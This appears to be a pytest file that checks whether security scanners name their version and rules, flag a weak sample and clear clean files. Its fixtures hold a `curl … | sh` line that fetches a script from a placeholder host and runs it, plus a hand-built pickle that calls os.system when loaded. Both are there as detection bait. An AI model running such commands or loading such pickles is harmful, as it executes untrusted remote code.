"""What every scanner owes: it names itself, answers once for each content, in values that JSON has."""

import json
import pickle
import re
from pathlib import Path

import pytest
from code_rig import Alone, run_alone

from codebook.errors import Missing
from codebook.scanning import Scan
from scan.scanner import SeenFinding
from scan.tools import SCANNERS

WEAK = b"""\
import os
import pickle

os.system("curl https://example.invalid/x | sh")
state = pickle.load(open("x", "rb"))
"""
FILES = {
    "weak.py": WEAK,
    "clean.py": b"import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n",
    "empty.py": b"",
    "weights.pkl": b"cposix\nsystem\n(Vx\ntR.",
    "binary": bytes(range(256)) * 4,
}
"""A weak file, and what is no weak file."""


@pytest.fixture(scope="module", params=sorted(SCANNERS))
def ran(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Alone]:
    """One scanner on the files; its kit travels as to another machine."""
    name, scratch = request.param, tmp_path_factory.mktemp("scanner")
    try:
        kit = SCANNERS[name].kit(Scan(), scratch)
    except Missing as missing:
        pytest.skip(f"{name} is not installed here: {missing}")
    if kit.whole:
        pytest.skip(f"{name} looks at repositories, not at single contents")
    return name, run_alone(SCANNERS[name], FILES, scratch, kit=pickle.loads(pickle.dumps(kit)))


def test_it_says_which_tool_version_and_rules_it_is(ran: tuple[str, Alone]) -> None:
    name, alone = ran

    assert alone.kit.tool == name
    assert re.fullmatch(r"\d+\.\d+.*", alone.kit.tool_version)
    assert re.fullmatch(r"[0-9a-f]{64}", alone.kit.rules_hash)
    assert len({rule.rule for rule in alone.kit.rules}) == len(alone.kit.rules) > 0


def test_every_content_is_answered_for_once_or_refused_with_the_reason(ran: tuple[str, Alone]) -> None:
    _, alone = ran

    assert sorted([*alone.said, *alone.refused]) == sorted(FILES)
    assert [said for said in alone.said.values() if said.status != "scanned" and not said.reason] == []


def test_it_finds_the_weak_one_and_clears_the_clean_one(ran: tuple[str, Alone]) -> None:
    name, alone = ran
    weak = "weights.pkl" if name == "picklescan" else "weak.py"

    assert alone.said[weak].findings != ()
    assert all(not alone.said[clean].findings for clean in ("clean.py", "empty.py") if clean in alone.said)


def test_its_findings_survive_json_and_name_rules_that_it_described(ran: tuple[str, Alone]) -> None:
    name, alone = ran
    said = [finding for each in alone.said.values() for finding in each.findings]
    seen = [SCANNERS[name].parse(finding) for finding in said]

    assert seen == [SCANNERS[name].parse(json.loads(json.dumps(finding))) for finding in said]
    assert {each.rule for each in seen} - {rule.rule for rule in alone.kit.rules} == set()
    assert all(1 <= each.line <= (each.end_line or each.line) for each in seen)


@pytest.mark.parametrize("name", sorted(SCANNERS))
@pytest.mark.parametrize("nonsense", [{}, {"rule": 5}, {"line": "x", "findings": None}])
def test_what_is_no_finding_is_refused(name: str, nonsense: dict[str, object]) -> None:
    with pytest.raises(ValueError, match=r"."):
        assert isinstance(SCANNERS[name].parse(nonsense), SeenFinding)


def test_the_rigs_scratch_is_not_told(ran: tuple[str, Alone], tmp_path_factory: pytest.TempPathFactory) -> None:
    """The same content gives the same words wherever it was scanned."""
    _, alone = ran
    base = str(Path(tmp_path_factory.getbasetemp()))

    assert [said for said in alone.said.values() if base in json.dumps([dict(f) for f in said.findings])] == []
